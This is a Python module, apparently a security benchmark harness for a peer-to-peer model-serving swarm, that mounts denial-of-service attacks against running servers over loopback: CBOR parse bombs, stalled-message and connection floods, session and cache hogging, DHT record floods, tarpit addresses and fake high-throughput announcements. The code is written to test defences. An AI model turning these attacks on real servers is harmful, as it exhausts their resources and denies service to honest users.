"""The attacks of issue 10, mounted against running servers (``bench/abuse.py`` and
``tests/peer/test_abuse_processes.py``).

Each attack is ``async def name(target, *, seconds, subnet) -> dict`` that keeps the
attack up for ``seconds``, bounded in what it opens, and cleans up after itself; it
returns counts of what it did and what the victims did to it. Attackers live on their
own loopback subnet, ``127.x.y.0/24`` with ``x.y`` = ``subnet`` (any 127.0.0.0/8 address
is loopback): they listen on and dial from addresses there, so they look like hosts of
one remote subnet, as a real attacker with one /24 would. Their identities come from
the pool of pre-solved puzzles (``swarm.dht._pool``; an attacker mints them ahead of
time too, at about 0.16 s of CPU each).

Run one from the command line (``bench/abuse.py`` does, one process per attack, so
that the attacker's CPU is not the honest client's): ``python -m bench._attacks NAME
--target HOST:PORT,PEER,BLOCK_START:BLOCK_END ... --model ID --hidden H --seconds S``.

Items 1-4 (``ATTACKS``): parsing before bounding, buffered partial messages,
connection slots, sessions / cache / compute. Items 5-6 (``DHT_ATTACKS``): 64
identities filling a block key, record floods, tarpit contacts. Item 7, lying
announcements, is ``lying_announcements``: it attacks the client's route choice (the
client routes on the throughput it measured), so it is not in ``ATTACKS``; ``ALL`` has
every item.
"""

from __future__ import annotations

import argparse
import functools
import math
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

import torch
import trio

from protocol import (
    NEED_DATA,
    Announcement,
    Connection,
    FindNode,
    Forward,
    ForwardOnce,
    HandshakeComplete,
    Identity,
    Limits,
    OpenSession,
    Ping,
    Role,
    SessionOpened,
    SessionState,
    SignedRecord,
    Store,
    cbor_encode,
    encode_message,
    encode_tensor,
    sign_forward,
    sign_forward_once,
    type_cap,
)
from protocol.errors import SwarmError
from swarm.announce import block_key, encode_block_value
from swarm.dht._local import loopback_host
from swarm.dht._pool import POOL_SIZE, pool_identity
from swarm.transport import Host

__all__ = ["Target", "ATTACKS", "DHT_ATTACKS", "run_attack", "lying_announcements"]

MiB = 1 << 20


@dataclass(frozen=True, slots=True)
class Server:
    address: str
    peer_id: bytes
    span: tuple[int, int]


@dataclass(frozen=True, slots=True)
class Target:
    """The servers under attack and what an attacker knows of the model."""

    servers: tuple[Server, ...]
    model: str  # model id
    hidden: int
    num_blocks: int
    context: int = 2048


def _pool(index: int) -> Identity:
    return pool_identity(index % POOL_SIZE)


def _source(subnet: int, host: int) -> str:
    return loopback_host(subnet, 1 + host % 250)


async def _host(nursery: trio.Nursery, subnet: int, index: int, *, identity: Identity | None = None,
                announce: str | None = None) -> Host:
    ip = _source(subnet, index)
    host = Host(identity or _pool(1000 + index), host=ip, source_host=ip,
                announce_addrs=[announce] if announce else None, default_timeout=30.0)
    await nursery.start(host.run)
    return host


async def _raw(address: str, source: str, identity: Identity, *, handshake: bool = True
               ) -> tuple[trio.SocketStream, Connection | None]:
    host, port = address.rsplit(":", 1)
    stream = await trio.open_tcp_stream(host, int(port), local_address=source)
    if not handshake:
        return stream, None
    conn = Connection(identity, Role.INITIATOR)
    with trio.fail_after(10):
        await stream.send_all(conn.initiate())
        while True:
            event = conn.next_event()
            if out := conn.data_to_send():
                await stream.send_all(out)
            if event is NEED_DATA:
                data = await stream.receive_some(65536)
                if not data:
                    raise trio.BrokenResourceError("closed during the handshake")
                conn.receive_data(data)
            elif isinstance(event, HandshakeComplete):
                return stream, conn


async def _until_closed(stream: trio.SocketStream, timeout: float) -> bool:
    """Read and drop until the peer closes (True) or ``timeout`` passes (False)."""
    with trio.move_on_after(timeout):
        try:
            while await stream.receive_some(65536):
                pass
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            pass
        return True
    return False


def _first_frames(wire: bytes, keep_bytes: int) -> bytes:
    """The leading frames of a message's wire bytes holding about ``keep_bytes``."""
    pos = 0
    while pos < len(wire) and pos < keep_bytes:
        (length,) = struct.unpack_from(">H", wire, pos)
        pos += 2 + length
    return wire[:pos]


# -- item 1: parsing before bounding ----------------------------------------------------------


@functools.lru_cache(maxsize=4)
def _bombs(hidden: int, context: int) -> tuple[bytes, ...]:
    n = 16 * MiB  # the issue's: one 16 MiB message, a CBOR array of 16 Mi empty arrays
    raw = b"\x9b" + n.to_bytes(8, "big") + b"\x80" * n
    ping = b"\x83\x02\x01" + raw  # the same inside a PING envelope
    # within FORWARD_ONCE's cap: an unknown body key holding empty arrays (the item budget refuses it)
    cap = type_cap(ForwardOnce, Limits(), hidden * context)
    count = cap - 64
    inner = b"\x83\x0e\x01\xa1\x17\x9a" + count.to_bytes(4, "big") + b"\x80" * count
    return raw, ping, inner


async def parse_bomb(target: Target, *, seconds: float, subnet: int = 1) -> dict[str, int]:
    """Item 1: 16 MiB messages of 16 Mi empty arrays (raw, in a PING, and one within the
    FORWARD_ONCE cap), one after another on fresh connections, each server in turn."""
    bombs = _bombs(target.hidden, target.context)
    sent = dropped = 0
    deadline = trio.current_time() + seconds
    i = 0
    while trio.current_time() < deadline:
        server = target.servers[i % len(target.servers)]
        bomb = bombs[i % len(bombs)]
        i += 1
        try:
            stream, conn = await _raw(server.address, _source(subnet, i), _pool(2000 + i))
        except (OSError, trio.BrokenResourceError, trio.TooSlowError, SwarmError):
            await trio.sleep(0.2)
            continue
        assert conn is not None
        try:
            await stream.send_all(conn.send(bomb))
            sent += 1
        except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
            sent += 1  # refused before we finished writing it
        dropped += await _until_closed(stream, 10.0)
        await trio.aclose_forcefully(stream)
    return {"bombs sent": sent, "connections dropped": dropped}


# -- item 2: buffered partial messages ----------------------------------------------------------


async def partial_flood(target: Target, *, seconds: float, subnet: int = 1, connections: int = 24
                        ) -> dict[str, int]:
    """Item 2: connections that declare a large message, send most of it and stall: a
    64 MiB one (refused from its head now) and ones as large as FORWARD_ONCE's cap."""
    # signatures do not matter: the message never completes
    once = ForwardOnce(nonce=bytes(16), model=target.model, span=target.servers[0].span,
                       hidden=encode_tensor(torch.zeros(1, target.context, target.hidden)), signature=bytes(64))
    payloads = [encode_message(once, 1)]
    huge = b"\x83\x0e\x01\xa1\x17\x5a" + (64 * MiB - 16).to_bytes(4, "big") + bytes(64 * MiB - 16)
    payloads.append(huge)
    opened = dropped = 0
    deadline = trio.current_time() + seconds

    async def one(index: int) -> None:
        nonlocal opened, dropped
        server = target.servers[index % len(target.servers)]
        payload = payloads[index % len(payloads)]
        while trio.current_time() < deadline:
            try:
                stream, conn = await _raw(server.address, _source(subnet, index), _pool(3000 + index))
            except (OSError, trio.BrokenResourceError, trio.TooSlowError, SwarmError):
                await trio.sleep(0.5)
                continue
            assert conn is not None
            wire = conn.send(payload)
            try:
                await stream.send_all(_first_frames(wire, len(wire) - 70_000))  # all but the last frame or two
                opened += 1
                with trio.move_on_at(deadline):
                    if await _until_closed(stream, math.inf):
                        dropped += 1
            except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
                dropped += 1
            await trio.aclose_forcefully(stream)
            await trio.sleep(1.0)  # encrypting a 64 MiB message costs the attacker too

    async with trio.open_nursery() as nursery:
        for index in range(connections):
            nursery.start_soon(one, index)
    return {"stalled messages": opened, "connections dropped": dropped}


# -- item 3: connection slots ---------------------------------------------------------------------


async def socket_flood(target: Target, *, seconds: float, subnet: int = 1, sockets: int = 260) -> dict[str, int]:
    """Item 3: silent sockets from one address, reopened as soon as they are closed."""
    opened = closed = 0
    deadline = trio.current_time() + seconds
    source = _source(subnet, 0)

    async def one(index: int) -> None:
        nonlocal opened, closed
        server = target.servers[index % len(target.servers)]
        while trio.current_time() < deadline:
            try:
                stream, _ = await _raw(server.address, source, _pool(0), handshake=False)
            except OSError:
                await trio.sleep(0.2)
                continue
            opened += 1
            if await _until_closed(stream, max(0.0, deadline - trio.current_time())):
                closed += 1
                await trio.sleep(0.05)
            await trio.aclose_forcefully(stream)

    async with trio.open_nursery() as nursery:
        for index in range(sockets):
            nursery.start_soon(one, index)
    return {"sockets opened": opened, "sockets closed by the victim": closed}


async def handshake_flood(target: Target, *, seconds: float, subnet: int = 1, connections: int = 256
                          ) -> dict[str, int]:
    """Item 3: completed handshakes from one subnet (16 addresses of it), kept busy with
    a PING every 2 s, reopened when the victim closes them."""
    opened = closed = 0
    deadline = trio.current_time() + seconds
    ping = encode_message(Ping(), 1)

    async def one(index: int) -> None:
        nonlocal opened, closed
        server = target.servers[index % len(target.servers)]
        while trio.current_time() < deadline:
            try:
                stream, conn = await _raw(server.address, _source(subnet, index % 16), _pool(index))
            except (OSError, trio.BrokenResourceError, trio.TooSlowError, SwarmError):
                closed += 1
                await trio.sleep(0.2)
                continue
            assert conn is not None
            opened += 1

            async def keepalive(stream: trio.SocketStream = stream, conn: Connection = conn) -> None:
                try:
                    while True:
                        await stream.send_all(conn.send(ping))
                        await trio.sleep(2.0)
                except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
                    return

            async with trio.open_nursery() as inner:
                inner.start_soon(keepalive)
                with trio.move_on_at(deadline):
                    await _until_closed(stream, math.inf)
                    closed += 1
                inner.cancel_scope.cancel()
            await trio.aclose_forcefully(stream)

    async with trio.open_nursery() as nursery:
        for index in range(connections):
            nursery.start_soon(one, index)
    return {"handshakes completed": opened, "connections closed by the victim": closed}


# -- item 4: sessions, cache and compute -------------------------------------------------------


async def _hold_sessions(target: Target, *, seconds: float, subnet: int, identities: int, max_length: int,
                         prefill: int, wanted: int) -> dict[str, int]:
    opened = refused = 0
    deadline = trio.current_time() + seconds
    async with trio.open_nursery() as nursery:
        hosts = [await _host(nursery, subnet, i, identity=_pool(4000 + i)) for i in range(identities)]

        async def hold(host: Host, server: Server) -> None:
            nonlocal opened, refused
            sessions: list[tuple[SessionState, object]] = []
            while trio.current_time() < deadline:
                try:
                    conn = await host.connect(server.address, peer_id=server.peer_id)
                    if len(sessions) < wanted:
                        answer = await conn.request(OpenSession(model=target.model, span=server.span,
                                                                max_length=max_length))
                        state = SessionState(client=host.peer_id, server=server.peer_id, session=answer.session,
                                             model=target.model, span=server.span, max_length=max_length)
                        state.open()
                        opened += 1
                        n = prefill
                        request = sign_forward(host.identity, state, encode_tensor(torch.randn(1, n, target.hidden)))
                        state.forward(step=request.step, position=request.position, n_tokens=n)
                        await conn.request(request)
                        sessions.append((state, conn))
                        continue
                    # keep them in use: one token on each, now and then
                    for state, session_conn in sessions:
                        if state.length < state.max_length:
                            request = sign_forward(host.identity, state,
                                                   encode_tensor(torch.randn(1, 1, target.hidden)))
                            state.forward(step=request.step, position=request.position, n_tokens=1)
                            await session_conn.request(request)  # type: ignore[attr-defined]
                    await trio.sleep(5.0)
                except SwarmError:
                    refused += 1
                    await trio.sleep(1.0)

        async with trio.open_nursery() as holders:
            for host in hosts:
                for server in target.servers:
                    holders.start_soon(hold, host, server)
        nursery.cancel_scope.cancel()
    return {"sessions opened": opened, "refusals": refused}


async def session_hog(target: Target, *, seconds: float, subnet: int = 1) -> dict[str, int]:
    """Item 4: four identities of one subnet each ask every server for 16 sessions and
    keep what they get in use."""
    return await _hold_sessions(target, seconds=seconds, subnet=subnet, identities=4, max_length=64, prefill=1,
                                wanted=16)


async def cache_fill(target: Target, *, seconds: float, subnet: int = 1) -> dict[str, int]:
    """Item 4: 14 sessions of the whole context, prefilled (the issue's 499 MB)."""
    return await _hold_sessions(target, seconds=seconds, subnet=subnet, identities=7, max_length=target.context - 1,
                                prefill=target.context - 48, wanted=2)


async def once_flood(target: Target, *, seconds: float, subnet: int = 1, identities: int = 6) -> dict[str, int]:
    """Item 4: six fresh identities each keep one FORWARD_ONCE of the whole context
    queued on every server (the issue's 2,047 tokens: 83.8 -> 1.1 tok/s)."""
    done = refused = 0
    deadline = trio.current_time() + seconds
    tokens = target.context - 1
    async with trio.open_nursery() as nursery:
        hosts = [await _host(nursery, subnet, i, identity=_pool(4100 + i)) for i in range(identities)]

        async def flood(host: Host, server: Server) -> None:
            nonlocal done, refused
            hidden = encode_tensor(torch.randn(1, tokens, target.hidden))
            while trio.current_time() < deadline:
                request, _ = sign_forward_once(host.identity, server=server.peer_id, nonce=bytes(16),
                                               model=target.model, span=server.span, hidden=hidden)
                try:
                    with trio.move_on_at(deadline):
                        await host.request(server.address, request, peer_id=server.peer_id, timeout=120)
                        done += 1
                except SwarmError:
                    refused += 1
                    await trio.sleep(0.5)

        async with trio.open_nursery() as floods:
            for host in hosts:
                for server in target.servers:
                    floods.start_soon(flood, host, server)
        nursery.cancel_scope.cancel()
    return {"FORWARD_ONCE computed": done, "refusals": refused}


# -- items 5 and 6: the DHT (defended on main; here for the benchmark's table) ----------------------


def _block_record(identity: Identity, addr: str, model: str, block: int, *, blocks: int, seq: int = 1
                  ) -> SignedRecord:
    expires = int(time.time()) + 240
    ann = Announcement(peer_id=identity.peer_id, addrs=(addr,), model=model, span=(0, max(blocks, block + 1)),
                       throughput=1e-3, free_sessions=1, expires=expires)
    return SignedRecord.create(identity, key=block_key(model, block), seq=seq, expires=expires,
                               value=encode_block_value(block, ann))


async def dht_key_fill(target: Target, *, seconds: float, subnet: int = 1, identities: int = 64) -> dict[str, int]:
    """Item 5: 64 identities store a record under every block key of the model."""
    stored = refused = 0
    async with trio.open_nursery() as nursery:
        with trio.move_on_after(seconds):
            for i in range(identities):
                host = await _host(nursery, subnet, i, identity=_pool(100 + i))
                for block in range(target.num_blocks):
                    record = _block_record(host.identity, host.listen_addrs[0], target.model, block,
                                           blocks=target.num_blocks)
                    for server in target.servers:
                        try:
                            await host.request(server.address, Store(record=record), timeout=10)
                            stored += 1
                        except SwarmError:
                            refused += 1
            await trio.sleep_forever()
        nursery.cancel_scope.cancel()
    return {"records stored": stored, "refused": refused}


async def dht_record_flood(target: Target, *, seconds: float, subnet: int = 1) -> dict[str, int]:
    """Item 5: five identities of one subnet store 580 records each (and a padded one)."""
    stored = refused = 0
    async with trio.open_nursery() as nursery:
        with trio.move_on_after(seconds):
            hosts = [await _host(nursery, subnet, i, identity=_pool(200 + i)) for i in range(5)]
            server = target.servers[0]
            first = hosts[0]
            ann = Announcement(peer_id=first.peer_id, addrs=(first.listen_addrs[0],), model=target.model,
                               span=(0, 1), throughput=1e-3, free_sessions=1, expires=int(time.time()) + 240)
            padded = SignedRecord.create(first.identity, key=block_key(target.model, 0), seq=1, expires=ann.expires,
                                         value=cbor_encode(["swarm/1/block", 0, {**ann.to_cbor(), 9: bytes(1500)}]))
            for record in [padded] + [_block_record(h.identity, h.listen_addrs[0], "flood@0123456789abcdef", b,
                                                    blocks=580) for h in hosts for b in range(580)]:
                try:
                    await first.request(server.address, Store(record=record), timeout=10)
                    stored += 1
                except SwarmError:
                    refused += 1
            await trio.sleep_forever()
        nursery.cancel_scope.cancel()
    return {"records stored": stored, "refused": refused}


async def dht_tarpit(target: Target, *, seconds: float, subnet: int = 1, identities: int = 60) -> dict[str, int]:
    """Item 6: identities that connect once claiming a tarpit (accepts, never answers)
    as their listen address, then leave."""
    accepted: list[trio.SocketStream] = []

    async def tarpit(stream: trio.SocketStream) -> None:
        accepted.append(stream)
        await trio.sleep_forever()

    async with trio.open_nursery() as nursery:
        (listener,) = await nursery.start(functools.partial(trio.serve_tcp, tarpit, 0,
                                                            host=_source(subnet + 1, 0)))
        pit = f"{_source(subnet + 1, 0)}:{listener.socket.getsockname()[1]}"
        with trio.move_on_after(seconds):
            for i in range(identities):
                async with trio.open_nursery() as one:
                    host = await _host(one, subnet, i, identity=_pool(300 % POOL_SIZE + i), announce=pit)
                    for server in target.servers:
                        try:
                            await host.request(server.address, FindNode(target=host.peer_id), timeout=5)
                        except SwarmError:
                            pass
                    one.cancel_scope.cancel()
            await trio.sleep_forever()
        nursery.cancel_scope.cancel()
    return {"tarpit identities": identities, "tarpit dials": len(accepted)}


# -- item 7: lying announcements (the client's side; see the module docstring) -----------------------


async def lying_announcements(target: Target, *, seconds: float, subnet: int = 1, identities: int = 4
                              ) -> dict[str, int]:
    """Item 7: identities announce the whole model at 1e300 tokens/s with 2^32 free
    sessions, accept sessions and never answer FORWARD."""
    stored = 0
    async with trio.open_nursery() as nursery:
        for i in range(identities):
            host = await _host(nursery, subnet, i, identity=_pool(250 + i))

            async def accept(conn, msg):  # noqa: ANN001, ANN202
                return SessionOpened(session=bytes(16))

            async def never(conn, msg):  # noqa: ANN001, ANN202
                await trio.sleep_forever()

            host.add_handler(OpenSession, accept)
            host.add_handler(Forward, never)
            expires = int(time.time()) + 240
            ann = Announcement(peer_id=host.peer_id, addrs=(host.listen_addrs[0],), model=target.model,
                               span=(0, target.num_blocks), throughput=1e300, free_sessions=2**32, expires=expires)
            for block in range(target.num_blocks):
                record = SignedRecord.create(host.identity, key=block_key(target.model, block), seq=1,
                                             expires=expires, value=encode_block_value(block, ann))
                for server in target.servers:
                    try:
                        await host.request(server.address, Store(record=record), timeout=10)
                        stored += 1
                    except SwarmError:
                        pass
        await trio.sleep(seconds)
        nursery.cancel_scope.cancel()
    return {"lying records stored": stored}


Attack = Callable[..., Awaitable[dict[str, int]]]

#: Items 1-4, in the benchmark's order.
ATTACKS: dict[str, Attack] = {
    "parse-bomb": parse_bomb,
    "partial-flood": partial_flood,
    "socket-flood": socket_flood,
    "handshake-flood": handshake_flood,
    "session-hog": session_hog,
    "cache-fill": cache_fill,
    "once-flood": once_flood,
}
#: Items 5-6.
DHT_ATTACKS: dict[str, Attack] = {
    "dht-key-fill": dht_key_fill,
    "dht-record-flood": dht_record_flood,
    "dht-tarpit": dht_tarpit,
}
ALL = {**ATTACKS, **DHT_ATTACKS, "lying-announcements": lying_announcements}


async def run_attack(name: str, target: Target, *, seconds: float, subnet: int = 1) -> dict[str, int]:
    """Run the attack ``name`` for ``seconds`` (and at most a minute more to clean up)."""
    with trio.fail_after(seconds + 60):
        return await ALL[name](target, seconds=seconds, subnet=subnet)


def _parse_target(text: str) -> Server:
    address, peer, span = text.split(",")
    start, end = span.split(":")
    return Server(address=address, peer_id=bytes.fromhex(peer), span=(int(start), int(end)))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Mount one attack of issue 10 against running servers.")
    parser.add_argument("name", choices=sorted(ALL))
    parser.add_argument("--target", action="append", required=True, help="ADDRESS,PEER_ID_HEX,START:END")
    parser.add_argument("--model", required=True)
    parser.add_argument("--hidden", type=int, required=True)
    parser.add_argument("--num-blocks", type=int, required=True)
    parser.add_argument("--context", type=int, default=2048)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--subnet", type=int, default=1)
    args = parser.parse_args(argv)
    torch.set_num_threads(1)
    target = Target(servers=tuple(_parse_target(t) for t in args.target), model=args.model, hidden=args.hidden,
                    num_blocks=args.num_blocks, context=args.context)
    result = trio.run(functools.partial(run_attack, args.name, target, seconds=args.seconds, subnet=args.subnet))
    print(" ".join(f"{k}={v}" for k, v in result.items()), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
